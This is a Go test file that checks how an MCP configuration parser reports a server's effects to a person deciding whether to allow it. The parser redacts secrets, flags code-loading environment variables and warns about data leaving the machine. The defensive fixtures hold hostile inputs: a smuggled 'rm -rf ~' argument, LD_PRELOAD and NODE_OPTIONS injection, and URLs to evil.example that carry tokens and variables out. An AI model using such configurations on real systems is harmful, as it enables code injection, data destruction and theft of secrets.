package mcp_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/grapnel-go/grapnel/subsystems/mcp"
)

// TestEffects: a person who is to allow a server sees all that it does, and no secret.
func TestEffects(t *testing.T) {
	t.Parallel()
	const key = "sk-proj-0123456789abcdefABCDEF"
	cases := []struct{ name, entry, want string }{
		{"a command", `{"command": "npx", "args": ["-y", "a b", "x;rm -rf ~"]}`, `s: npx -y "a b" "x;rm -rf ~"`},
		{"what it loads", `{"command": "x", "env": {"LD_PRELOAD": "./evil.so", "NODE_OPTIONS": "--require=./e.js", "GIT_CONFIG_KEY_0": "core.sshCommand"}}`,
			"s: x\n" + `s: environment GIT_CONFIG_KEY_0=core.sshCommand (can say which code programs load or run)` + "\n" +
				`s: environment LD_PRELOAD=./evil.so (can say which code programs load or run)` + "\n" +
				`s: environment NODE_OPTIONS=--require=./e.js (can say which code programs load or run)`},
		{"secrets", `{"command": "x", "env": {"API_KEY": "hunter2hunter2", "GIT_TOKEN": "abcdef123", "MODE": "fast", "OTHER": "` + key + `"}}`,
			"s: x\ns: environment API_KEY=[secret:14]\ns: environment GIT_TOKEN=[secret:9]\ns: environment MODE=fast\ns: environment OTHER=[secret:30]"},
		{"variables", `{"command": "${CMD:-x}", "args": ["${SET}"], "env": {"K": "${UNSET}"}}`,
			"s: ${CMD:-x} ${SET}\ns: environment K=${UNSET}\ns: names your variable CMD, which is not set\n" +
				"s: the program gets your variable SET\ns: names your variable UNSET, which is not set"},
		{"a url", `{"url": "https://me:hunter22@evil.example/mcp?k=1&token=` + key + `", "headers": {"Authorization": "Bearer ` + key + `", "X-Mode": "a"}}`,
			"s: https://me:[secret:8]@evil.example/mcp?k=1&token=[secret:30]\ns: header Authorization: Bearer [secret:30]\ns: header X-Mode: a"},
		{"what leaves", `{"url": "https://evil.example/${SET}?q=${SET}", "headers": {"X": "Bearer ${SET:-` + key + `}"}}`,
			"s: https://evil.example/${SET}?q=${SET}\ns: header X: Bearer ${SET:-[secret:30]}\ns: your variable SET LEAVES THIS MACHINE, with every request"},
		{"to this machine", `{"url": "http://127.0.0.1:1/${SET}"}`, "s: http://127.0.0.1:1/${SET}\ns: your variable SET is sent to a server of this machine"},
		{"the rest", `{"command": "x", "timeout": 90000, "destructive": false}`,
			"s: x\ns: each call may take 1m30s\ns: its tools are not taken for destructive, by the word of this file"},
		{"forged lines", `{"command": "x\ns: y\u001b[31m", "env": {"A\nB": "1\u202e2"}}`, `s: "x\ns: y\x1b[31m"` + "\n" + `s: environment "A\nB"="1\u202e2"`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			cfg, err := mcp.Parse([]byte(`{"mcpServers": {"s": `+c.entry+`}}`), nil)
			require.NoError(t, err)
			lines := cfg.Servers[0].Effects(func(name string) bool { return name == "SET" })
			assert.Equal(t, c.want, strings.Join(lines, "\n"))
			assert.NotContains(t, strings.Join(lines, "\n"), key)
		})
	}
}

func TestADisabledServerIsNotUsed(t *testing.T) {
	t.Parallel()
	cfg, err := mcp.Parse([]byte(`{"mcpServers": {"off": {"command": "x", "disabled": true}, "on": {"command": "x", "disabled": false}}}`), nil)
	require.NoError(t, err)
	assert.Empty(t, cfg.Warnings)
	assert.Equal(t, []string{"it is disabled in the list of servers", ""}, []string{cfg.Servers[0].Refused, cfg.Servers[1].Refused})
	cfg, err = mcp.Parse([]byte(`{"mcpServers": {"s": {"command": "x", "disabled": "yes"}}}`), nil)
	require.NoError(t, err)
	assert.Equal(t, "disabled must be true or false", cfg.Servers[0].Refused)
}
